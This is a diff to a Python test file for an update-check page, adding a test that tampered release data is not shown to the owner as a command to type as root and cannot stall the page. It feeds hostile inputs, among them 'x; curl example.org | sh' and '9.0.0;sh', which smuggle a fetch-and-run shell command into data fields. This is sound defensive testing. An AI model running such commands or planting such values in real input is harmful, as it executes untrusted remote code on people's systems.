@@ -1,6 +1,7 @@
 """Which release runs here: what the owner is told of a newer one, and what whoever finds a hole is told."""
 
 import json
+import os
 import re
 from datetime import UTC, datetime, timedelta
 from html import unescape
@@ -49,6 +50,16 @@ def test_without_a_newer_release_the_owner_reads_how_that_is_known(wall: Any, no
     assert "No newer version was out on Sunday 22 November 2026." in noted(version=__version__)
     assert "could not be found out on Sunday 22 November 2026" in noted(version="0.0.1", error="can't be had")
     assert "Version 7.0.0 is out" in noted(error="can't be had"), "what was known before is still so"
+
+
+def test_what_a_taken_over_process_says_is_not_shown_to_be_typed_as_root_and_holds_nobody_up(
+    wall: Any, noted: Any
+) -> None:
+    for changes in ({"bundle": "x; curl example.org | sh"}, {"version": "9.0.0;sh"}, {"notes": "x" * 2**20}):
+        assert "Nobody looks for newer versions" in noted(**changes)
+    wall.services.latest.unlink()
+    os.mkfifo(wall.services.latest)  # which nobody ever writes to
+    assert "Nobody looks for newer versions" in wall.owner().get("/care").text
 
 
 @pytest.mark.parametrize("text", ["", "{", "[]", '{"looked": "x"}'])
